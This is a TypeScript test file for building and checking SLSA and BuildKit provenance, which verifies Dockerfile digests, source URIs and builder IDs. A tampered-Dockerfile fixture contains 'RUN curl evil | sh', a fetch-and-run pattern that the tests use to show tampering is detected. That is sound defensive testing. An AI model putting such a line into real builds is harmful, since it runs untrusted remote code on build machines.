import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { TrustError } from "../errors.js";
import { type InTotoStatement, parseStatement } from "../intoto/statement.js";
import { BUILD_TYPE_DOCKERFILE, buildProvenance, PREDICATE_TYPE_SLSA_V1 } from "./provenance-build.js";
import { checkProvenance, provenanceFacts } from "./provenance-check.js";

const DOCKERFILE = Buffer.from("FROM alpine:3.19\nRUN echo hi\n");
const TAMPERED = Buffer.from("FROM alpine:3.19\nRUN curl evil | sh\n");
const sha = (b: Buffer) => createHash("sha256").update(b).digest("hex");
/** A real BuildKit mode=min provenance (the SLSA generator's container build), see NOTICE. */
const modeMin = parseStatement(
  readFileSync(new URL("./testdata/buildkit-mode-min.intoto.json", import.meta.url)),
);

/** The same statement as BuildKit mode=max writes it: the Dockerfile kept in the metadata. */
function modeMax(dockerfile: Buffer): InTotoStatement {
  const predicate = structuredClone(modeMin.predicate!) as Record<string, Record<string, unknown>>;
  predicate.metadata!["https://mobyproject.org/buildkit@v1#metadata"] = {
    source: {
      infos: [{ filename: "Dockerfile", language: "Dockerfile", data: dockerfile.toString("base64") }],
    },
  };
  return { ...modeMin, predicate };
}

/** BuildKit's SLSA v1 form (provenance version=v1). */
function buildkitV1(dockerfile: Buffer): InTotoStatement {
  return {
    _type: "https://in-toto.io/Statement/v1",
    subject: [{ name: "app", digest: { sha256: "ab" } }],
    predicateType: PREDICATE_TYPE_SLSA_V1,
    predicate: {
      buildDefinition: {
        buildType: "https://github.com/moby/buildkit/blob/master/docs/attestations/slsa-definitions.md",
        externalParameters: {
          configSource: {
            uri: "https://github.com/o/r.git#abc",
            digest: { sha1: "abc" },
            path: "Dockerfile",
          },
          request: { frontend: "dockerfile.v0" },
        },
      },
      runDetails: {
        builder: { id: "https://github.com/o/r/actions/runs/1" },
        metadata: {
          buildkit_metadata: {
            source: { infos: [{ filename: "Dockerfile", data: dockerfile.toString("base64") }] },
          },
        },
      },
    },
  };
}

function ours(): InTotoStatement {
  const predicate = buildProvenance({
    dockerfile: { path: "Dockerfile", bytes: DOCKERFILE },
    buildArgs: { VERSION: "1" },
    context: ".",
    source: { uri: "git+https://github.com/o/r", digest: "sha1:ABC123" },
    baseImages: [{ reference: "docker.io/library/alpine:3.19", digest: `sha256:${"c".repeat(64)}` }],
    builderId: "https://ci.example.com/builder",
    startedOn: new Date("2026-01-01T00:00:00Z"),
    finishedOn: new Date("2026-01-01T00:01:00Z"),
  });
  return {
    _type: "https://in-toto.io/Statement/v1",
    subject: [],
    predicateType: PREDICATE_TYPE_SLSA_V1,
    predicate,
  };
}

describe("buildProvenance", () => {
  it("writes SLSA v1 with the Dockerfile digest, the source and pinned base images", () => {
    const p = ours().predicate as Record<string, Record<string, unknown>>;
    expect(p.buildDefinition).toEqual({
      buildType: BUILD_TYPE_DOCKERFILE,
      externalParameters: {
        dockerfile: { path: "Dockerfile", digest: { sha256: sha(DOCKERFILE) } },
        buildArgs: { VERSION: "1" },
        context: ".",
        source: { uri: "git+https://github.com/o/r", digest: { sha1: "abc123" } },
      },
      internalParameters: {},
      resolvedDependencies: [
        { uri: "git+https://github.com/o/r", digest: { sha1: "abc123" } },
        {
          uri: `pkg:docker/docker.io/library/alpine?digest=sha256%3A${"c".repeat(64)}`,
          name: "docker.io/library/alpine:3.19",
          digest: { sha256: "c".repeat(64) },
        },
      ],
    });
    expect(p.runDetails).toEqual({
      builder: { id: "https://ci.example.com/builder" },
      metadata: { startedOn: "2026-01-01T00:00:00.000Z", finishedOn: "2026-01-01T00:01:00.000Z" },
    });
  });

  it("refuses a builder id that is not a URI and a malformed source digest", () => {
    const base = {
      dockerfile: { path: "D", bytes: DOCKERFILE },
      baseImages: [],
      startedOn: new Date(),
      finishedOn: new Date(),
    };
    expect(() => buildProvenance({ ...base, builderId: "my laptop" })).toThrow(TrustError);
    expect(() =>
      buildProvenance({ ...base, builderId: "https://x", source: { uri: "u", digest: "abc" } }),
    ).toThrow(/algorithm:value/);
  });
});

describe("provenanceFacts and checkProvenance", () => {
  it.each([
    ["ours", ours(), "portcullis"],
    ["BuildKit mode=max (v0.2)", modeMax(DOCKERFILE), "buildkit-v0.2"],
    ["BuildKit v1", buildkitV1(DOCKERFILE), "buildkit-v1"],
  ])("proves the Dockerfile of %s, and catches a tampered one", (_name, statement, shape) => {
    const facts = provenanceFacts(statement);
    expect(facts.shape).toBe(shape);
    expect(facts.dockerfile?.sha256).toBe(sha(DOCKERFILE));
    expect(checkProvenance(facts, { dockerfile: DOCKERFILE })).toEqual({ ok: true });
    expect(checkProvenance(facts, { dockerfile: TAMPERED })).toMatchObject({
      ok: false,
      message: expect.stringMatching(/tampered with/),
    });
  });

  it("reads a real BuildKit mode=min provenance, which cannot prove a Dockerfile", () => {
    const facts = provenanceFacts(modeMin);
    expect(facts).toMatchObject({
      shape: "buildkit-v0.2",
      source: {
        uri: "https://github.com/slsa-framework/example-package.git#4d329c75e7ec1725f7c9ce917a8799d408d06be3",
        digest: { sha1: "4d329c75e7ec1725f7c9ce917a8799d408d06be3" },
      },
      dockerfile: { path: "Dockerfile" },
    });
    expect(
      checkProvenance(facts, { sourceUri: "https://github.com/slsa-framework/example-package" }),
    ).toEqual({
      ok: true,
    });
    expect(checkProvenance(facts, { sourceUri: "https://github.com/evil/fork" })).toMatchObject({
      ok: false,
    });
    expect(checkProvenance(facts, { dockerfile: DOCKERFILE })).toMatchObject({
      ok: false,
      message: expect.stringMatching(/mode=min/),
    });
  });

  it("checks the builder id exactly", () => {
    const facts = provenanceFacts(ours());
    expect(checkProvenance(facts, { builderId: "https://ci.example.com/builder" })).toEqual({ ok: true });
    expect(checkProvenance(facts, { builderId: "https://ci.example.com" })).toMatchObject({ ok: false });
    expect(checkProvenance(facts, { sourceUri: "https://github.com/o/r.git" })).toEqual({ ok: true });
  });
});
